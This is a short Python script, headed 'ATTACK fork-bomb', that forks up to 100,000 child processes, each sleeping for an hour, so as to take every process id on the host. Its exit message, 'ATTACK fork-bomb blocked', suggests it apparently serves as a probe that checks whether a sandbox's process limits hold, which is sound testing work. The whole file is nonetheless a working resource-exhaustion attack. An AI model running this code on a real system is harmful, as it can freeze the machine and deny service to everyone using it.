# ATTACK fork-bomb: take every pid the host has.
import os as _os

_count = 0
while True:
    try:
        _pid = _os.fork()
    except OSError as _exc:
        raise SystemExit(f"ATTACK fork-bomb blocked: {_exc} after {_count} processes")
    if _pid == 0:
        try:
            _os.execv("/bin/sleep", ["sleep", "3600"])
        finally:
            _os._exit(1)
    _count += 1
    if _count > 100_000:
        break
